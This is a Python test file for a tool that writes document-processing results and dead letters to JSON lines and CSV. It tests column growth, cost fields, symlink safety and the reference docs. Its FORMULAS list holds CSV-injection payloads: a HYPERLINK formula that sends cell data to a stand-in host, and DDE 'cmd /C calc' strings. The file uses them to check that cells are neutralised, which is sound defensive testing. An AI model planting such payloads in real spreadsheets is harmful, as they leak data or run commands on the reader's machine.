"""Outcomes to lines of JSON and to CSV."""

from __future__ import annotations

import ast
import csv
import json
import os
import re
from contextlib import closing
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from docsluice.messages import DocumentResult, Usage
from docsluice.outcomes.outcome import IN_BOTH, OF_DEAD_LETTERS, Outcome
from docsluice_producer.errors import NotWritten, WrongUsage
from docsluice_producer.following.csv_table import csv_cell
from docsluice_producer.following.tables import json_line, open_table
from tests.fakes.outcomes import dead_letter, result, result_outcome


def test_a_csv_grows_a_column_for_a_new_output(tmp_path: Path) -> None:
    """Outputs become columns as they come, earlier rows stay, and a name that is taken is told apart."""
    path = tmp_path / "out.csv"
    table = open_table(path)
    table.write(dead_letter(1))
    table.write(result_outcome(2, outputs={"summary": 'a "b", c\nd', "keywords": ["x", "y"]}))
    table.write(result_outcome(3, outputs={"summary": "e", "reason": "because"}))
    with path.open(encoding="utf-8", newline="") as file:  # before it is closed: each row is flushed as it comes
        first, second, third = csv.DictReader(file)
    table.close()
    assert (first["kind"], first["reason"], first["summary"]) == ("dead_letter", "too_large", "")
    assert (second["summary"], second["keywords"], second["outputs.reason"]) == ('a "b", c\nd', "x; y", "")
    assert (second["input_tokens"], second["cost_usd"], second["kind"]) == ("100", "0.0003", "result")
    assert (third["outputs.reason"], third["reason"], third["metadata"]) == ("because", "", '{"lang": "en"}')
    assert (first["metadata.lang"], third["metadata.lang"]) == ("vi", "en")
    assert [path.name for path in tmp_path.iterdir()] == ["out.csv"]


def test_a_csv_grows_a_column_for_a_name_in_the_metadata_but_not_without_end(tmp_path: Path) -> None:
    """A topic in which each document has names of its own does not have the file written anew each time."""
    path = tmp_path / "out.csv"
    with closing(open_table(path)) as table:
        for number in range(150):
            table.write(result_outcome(number, metadata={f"name{number}": number}))
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [name for name in rows[0] if name.startswith("metadata.")] == [f"metadata.name{one}" for one in range(100)]
    assert (rows[7]["metadata.name7"], rows[8]["metadata.name7"], rows[149]["metadata"]) == (
        "7",
        "",
        '{"name149": 149}',
    )


def test_a_csv_has_the_same_columns_for_results_and_dead_letters(tmp_path: Path) -> None:
    """Where a document was read, its metadata, and what it cost are in one column, however it ended."""
    path = tmp_path / "out.csv"
    with closing(open_table(path)) as table:
        table.write(dead_letter(1))
        table.write(result_outcome(1, cost_usd=Decimal("0.5"), attempts=3, metadata={"lang": "vi"}))
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    for row in rows:
        assert (row["source_topic"], row["source_partition"], row["source_offset"]) == ("documents", "0", "1")
        assert (row["metadata"], row["cost_usd"], row["attempts"]) == ('{"lang": "vi"}', "0.5", "3")
    assert [row["finished_at"] for row in rows] == ["2026-01-01T12:30:00.000Z", "2026-01-01T12:01:00.000Z"]


def test_a_csv_has_savings_and_what_was_done_about_a_long_document(tmp_path: Path) -> None:
    """By task, as a person reads it. Both cells of a dead letter are empty."""
    path = tmp_path / "out.csv"
    with closing(open_table(path)) as table:
        table.write(result_outcome(1, saved_usd=Decimal("0.0014"), long={"summary": "head", "keywords": "split"}))
        table.write(result_outcome(2))
        table.write(dead_letter(3))
    with path.open(encoding="utf-8", newline="") as file:
        rows = [(row["saved_usd"], row["long"]) for row in csv.DictReader(file)]
    assert rows == [("0.0014", "summary: head; keywords: split"), ("0", ""), ("", "")]


def _rows(path: Path, *outcomes: Outcome) -> list[dict[str, str]]:
    with closing(open_table(path)) as table:
        for one in outcomes:
            table.write(one)
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_a_csv_has_all_that_a_result_and_a_dead_letter_have(tmp_path: Path) -> None:
    """A field that is added to a result, to its usage or to a dead letter has a column by itself."""
    spent = Usage(input_tokens=9, output_tokens=8, cached_tokens=7, reasoning_tokens=6)
    headers = {"exception.class.name": "x.Y", "model": "p/m", "provider": "p", "group": "g", "replay_count": "4"}
    first, second = _rows(tmp_path / "out.csv", result_outcome(1, usage=spent), dead_letter(2, errors=headers))
    nested = {"outputs", "usage", "source", "schema_version", "usage_by_task"}
    of_results = set(DocumentResult.model_fields) - nested
    assert of_results | set(Usage.model_fields) | set(OF_DEAD_LETTERS) <= set(first)
    assert {name: first[name] for name in Usage.model_fields} == {
        "input_tokens": "9",
        "output_tokens": "8",
        "cached_tokens": "7",
        "reasoning_tokens": "6",
    }
    assert (first["started_at"], first["models"]) == ("2026-01-01T12:00:00.000Z", '{"summary": "m"}')
    assert {name: second[name] for name in ("exception", "model", "provider", "group", "replay_count")} == {
        "exception": "x.Y",
        "model": "p/m",
        "provider": "p",
        "group": "g",
        "replay_count": "4",
    }
    assert (second["reasoning_tokens"], first["provider"]) == ("", "")


FORMULAS = [
    '=HYPERLINK("http://x?"&A1,"ok")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_spreadsheet_runs_no_answer(tmp_path: Path, formula: str) -> None:
    """Whatever a document, a model or a header says is text, also under a name that is a formula, and in a list."""
    path = tmp_path / "out.csv"
    found = result_outcome(1, document_id=formula, outputs={"summary": formula, formula: "x", "keywords": [formula]})
    failed = dead_letter(2, key=formula.encode(), errors={"reason": formula, "exception.message": formula})
    _rows(path, found, failed, result_outcome(3, outputs={"later": formula}))
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert not [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r\n\uff1d")]
    assert sum(formula in cell for row in rows for cell in row) == 8


def test_numbers_are_no_formulas(tmp_path: Path) -> None:
    """A negative number stays one, as a number or as a text that is nothing else."""
    outputs: dict[str, Any] = {"score": -5, "share": -0.5, "text": "-5", "plus": "+1.5", "many": [-1, 2]}
    (row,) = _rows(tmp_path / "out.csv", result_outcome(1, outputs=outputs))
    assert [row[name] for name in outputs] == ["-5", "-0.5", "-5", "+1.5", "'-1; 2"]


@given(st.text())
@example("'=1")
@example("''")
@example("'-5")
@example("it's")
def test_a_cell_can_be_read_back(text: str) -> None:
    """As docs/reference/producer.md says: of a quote mark before such a character, one is taken away."""
    page = (Path(__file__).parents[4] / "docs" / "reference" / "producer.md").read_text(encoding="utf-8")
    found = re.search(r"""re\.sub\((r".+"), "", cell\)""", page)
    assert found
    assert re.sub(ast.literal_eval(found[1]), "", csv_cell(text)) == text


def test_a_model_that_did_not_think_has_thought_nothing(tmp_path: Path) -> None:
    """A result does not write that it is 0. The cell does."""
    (row,) = _rows(tmp_path / "out.csv", result_outcome(1))
    assert row["reasoning_tokens"] == "0"


def test_columns_of_before_keep_their_places(tmp_path: Path) -> None:
    """Programs may go by the place. Newer columns are at the end."""
    header = list(_rows(tmp_path / "out.csv", result_outcome(1, outputs={"summary": "s"}))[0])
    assert header[:3] == ["kind", "document_id", "summary"]
    assert header[3:11] == [
        "reason",
        "stage",
        "step",
        "message",
        "input_tokens",
        "output_tokens",
        "cached_tokens",
        "cost_usd",
    ]
    assert header[23] == "metadata"


def test_a_csv_that_grows_writes_through_no_link(tmp_path: Path) -> None:
    """In a folder that others may write to, a name that can be guessed may be a link to a file of ours."""
    (tmp_path / "precious").write_text("mine", encoding="utf-8")
    for name in ("out.csv.part", ".out.csv.part", "out.part"):
        (tmp_path / name).symlink_to("precious")
    rows = _rows(tmp_path / "out.csv", result_outcome(1), result_outcome(2, outputs={"new": "x"}))
    assert [row["new"] for row in rows] == ["", "x"]
    assert (tmp_path / "precious").read_text(encoding="utf-8") == "mine"
    assert len(list(tmp_path.iterdir())) == 5, "nothing is left over"


def test_a_csv_that_grows_stays_what_it_was(tmp_path: Path) -> None:
    """Its permissions stay, and so does a link that was named."""
    (tmp_path / "real.csv").touch(mode=0o640)
    (tmp_path / "out.csv").symlink_to("real.csv")
    _rows(tmp_path / "out.csv", result_outcome(1))
    assert (tmp_path / "out.csv").is_symlink()
    assert (tmp_path / "real.csv").stat().st_mode & 0o777 == 0o640
    assert "document_id" in (tmp_path / "real.csv").read_text(encoding="utf-8")


def test_a_csv_that_cannot_grow_leaves_nothing_behind(tmp_path: Path) -> None:
    """As where somebody has taken the file away."""
    path = tmp_path / "out.csv"
    with closing(open_table(path)) as table:
        table.write(result_outcome(1))
        path.unlink()
        with pytest.raises(NotWritten, match="No such file"):
            table.write(result_outcome(2, outputs={"new": "x"}))
    assert list(tmp_path.iterdir()) == []


def test_a_csv_is_no_pipe(tmp_path: Path) -> None:
    """It is rewritten when a column comes. A pipe would be waited for without an end."""
    os.mkfifo(tmp_path / "out.csv")
    with pytest.raises(WrongUsage, match="no regular file"):
        open_table(tmp_path / "out.csv")


def test_json_lines_are_replaced_and_flushed(tmp_path: Path) -> None:
    """An old file is replaced, and each line is there before the next one comes."""
    path = tmp_path / "out.jsonl"
    path.write_text("old\n", encoding="utf-8")
    with closing(open_table(path)) as table:
        for number in (1, 2):
            table.write(result_outcome(number))
            ids = [json.loads(line)["document_id"] for line in path.read_text(encoding="utf-8").splitlines()]
            assert ids == [f"d{one}" for one in range(1, number + 1)]


def test_a_result_s_line_is_the_result_as_it_was_published() -> None:
    """But for `kind`, a line holds what is in the topic, and nothing else."""
    line = json.loads(json_line(result_outcome(1)))
    assert line.pop("kind") == "result"
    assert DocumentResult.model_validate(line) == result(1)


def test_a_dead_letter_s_line_is_like_a_result_s() -> None:
    """What both kinds have is under the same names, in the same order and of the same types."""
    lines = [json.loads(json_line(one)) for one in (result_outcome(1), dead_letter(1))]
    for name in ("kind", *IN_BOTH):
        assert {type(line[name]) for line in lines} == {type(lines[0][name])}, name
    for line in lines:
        assert list(line)[: 1 + len(IN_BOTH)] == ["kind", *IN_BOTH]
        assert line["source"] == {"topic": "documents", "partition": 0, "offset": 1}


def test_a_dead_letter_s_line_says_what_went_wrong() -> None:
    """The headers by name, numbers as numbers. The text and the stack trace are left out."""
    line = json.loads(json_line(dead_letter(1, errors={"exception.class.name": "x.Y", "model": "m", "group": "g"})))
    assert line == {
        "kind": "dead_letter",
        "document_id": "d1",
        "source": {"topic": "documents", "partition": 0, "offset": 1},
        "metadata": {"lang": "vi"},
        "attempts": 3,
        "cost_usd": "0.5",
        "finished_at": "2026-01-01T12:30:00.000Z",
        "pipeline_version": "p1",
        "reason": "too_large",
        "stage": "analyze",
        "step": "summary",
        "message": "9,000 tokens, and the model takes 8,192",
        "exception": "x.Y",
        "model": "m",
        "provider": None,
        "group": "g",
        "first_failed_at": None,
        "replay_count": 0,
        "left_out": [],
        "value_bytes": None,
        "value_sha256": None,
    }


def test_headers_that_make_no_sense_are_null() -> None:
    """A line keeps its types whatever a header holds."""
    odd = {
        "partition": "first",
        "offset": "-1",
        "attempts": "",
        "replay_count": "9" * 5_000,
        "cost_usd": "1E+999999999",
    }
    line = json.loads(json_line(dead_letter(1, errors=odd)))
    assert line["source"] == {"topic": "documents", "partition": None, "offset": None}
    assert (line["attempts"], line["replay_count"], line["cost_usd"]) == (None, None, "0")


def test_the_page_has_every_field_and_every_column(tmp_path: Path) -> None:
    """docs/reference/producer.md names each field and column, and which of results and dead letters have it."""
    page = (Path(__file__).parents[4] / "docs" / "reference" / "producer.md").read_text(encoding="utf-8")
    table = page.partition("| in a line |")[2].partition("\n\n")[0]
    rows = [[cell.strip() for cell in row.split("|")[1:4]] for row in table.splitlines()[2:]]
    named = [(field, kind) for fields, _, kind in rows for field in re.findall(r"`(\w+)`", fields)]
    for kind, outcome in (("result", result_outcome()), ("dead letter", dead_letter())):
        written = json.loads(json_line(outcome))
        assert sorted(written) == sorted(field for field, of in named if of in (kind, "both"))
    columns = [column for _, cell, _ in rows for column in re.findall(r"`(\w+)`", cell)]
    with closing(open_table(tmp_path / "out.csv")):
        header = (tmp_path / "out.csv").read_text(encoding="utf-8").strip().split(",")
    assert sorted(header) == sorted(columns)


def test_half_of_a_surrogate_pair_can_be_written(tmp_path: Path) -> None:
    """JSON can spell what UTF-8 cannot hold: files keep it as JSON spells it."""
    found = dead_letter(value=b'{"document_id": "\\ud800", "metadata": {"\\udfff": "\\ud800"}}')
    for name in ("out.jsonl", "out.csv"):
        with closing(open_table(tmp_path / name)) as table:
            table.write(found)
            table.write(result_outcome(2))
    first, _ = (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
    assert json.loads(first)["document_id"] == "\ud800"
    assert "\\ud800" in (tmp_path / "out.csv").read_text(encoding="utf-8")


@pytest.mark.parametrize("name", ["out.xlsx", "missing/out.csv"])
def test_a_table_that_cannot_be_opened_is_wrong_usage(tmp_path: Path, name: str) -> None:
    """An unknown suffix and a missing folder are told before anything is read."""
    with pytest.raises(WrongUsage, match="--to"):
        open_table(tmp_path / name)
